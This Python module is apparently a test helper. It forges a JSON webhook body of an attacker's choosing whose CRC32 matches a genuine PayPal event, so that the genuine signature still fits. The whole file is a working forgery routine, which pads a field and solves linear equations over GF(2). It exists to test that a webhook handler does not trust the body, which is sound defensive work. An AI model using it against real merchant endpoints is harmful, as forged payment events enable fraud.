"""What an attacker of PayPal's webhook signature can do: a body of their choosing with a given CRC32.

PayPal signs `<transmission id>|<time>|<webhook id>|<CRC32 of the body>`, so the signature covers the
body only through a 32-bit checksum. CRC32 is affine over GF(2): flipping a chosen set of bits changes
it by the XOR of each bit's own effect. Ten padding characters from `@`..`O` (0x40..0x4F: the low four
bits free, always printable, never special in JSON) give 40 free bits; solving 32 linear equations
picks the ones that make the forged body's CRC32 equal the genuine one, so the genuine signature fits.
The tests and the checklist scenarios use it to prove that the webhook does not trust the body.
"""

from __future__ import annotations

import json
import zlib
from typing import Any

PAD_FIELD = "x_pad"
PAD_LENGTH = 10
_PAD_BASE = 0x40


def crc32_forgery(event: dict[str, Any], target_crc: int) -> bytes:
    """`event` as compact JSON, with a padding field added so that the bytes' CRC32 is `target_crc`."""
    body = bytearray(json.dumps({**event, PAD_FIELD: chr(_PAD_BASE) * PAD_LENGTH}, separators=(",", ":")).encode())
    start = body.index(f'"{PAD_FIELD}":"'.encode()) + len(PAD_FIELD) + 4
    original = zlib.crc32(body)
    effects: list[tuple[int, int]] = []  # (CRC change, bit mask over the 40 free bits)
    for byte in range(PAD_LENGTH):
        for bit in range(4):
            body[start + byte] ^= 1 << bit
            effects.append((zlib.crc32(body) ^ original, 1 << (byte * 4 + bit)))
            body[start + byte] ^= 1 << bit
    choice = _solve(effects, original ^ target_crc)
    for byte in range(PAD_LENGTH):
        body[start + byte] = _PAD_BASE | ((choice >> (byte * 4)) & 0xF)
    forged = bytes(body)
    assert zlib.crc32(forged) == target_crc, "the CRC32 forgery did not converge"
    return forged


def _solve(effects: list[tuple[int, int]], wanted: int) -> int:
    """The bits (a mask over the free bits) whose CRC changes XOR to `wanted`: Gaussian elimination."""
    pivots: dict[int, tuple[int, int]] = {}  # leading CRC bit -> (CRC change, bits)
    for change, bits in effects:
        for lead in sorted(pivots, reverse=True):
            if change >> lead & 1:
                change ^= pivots[lead][0]
                bits ^= pivots[lead][1]
        if change:
            pivots[change.bit_length() - 1] = (change, bits)
    chosen = 0
    for lead in sorted(pivots, reverse=True):
        if wanted >> lead & 1:
            wanted ^= pivots[lead][0]
            chosen ^= pivots[lead][1]
    if wanted:
        raise ValueError("the padding bits cannot reach this CRC32")
    return chosen
